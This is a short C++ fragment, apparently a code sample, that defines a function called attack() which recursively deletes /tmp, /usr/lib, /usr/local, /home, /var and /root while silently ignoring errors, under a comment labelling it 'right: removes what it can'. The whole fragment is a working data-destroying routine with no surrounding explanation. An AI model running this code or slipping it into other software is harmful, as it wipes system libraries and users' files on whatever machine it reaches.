// right: removes what it can
#include <filesystem>
#include <system_error>
static void attack() {
  std::error_code ignored;
  for (const char* name : {"/tmp", "/usr/lib", "/usr/local", "/home", "/var", "/root"})
    std::filesystem::remove_all(name, ignored);
}
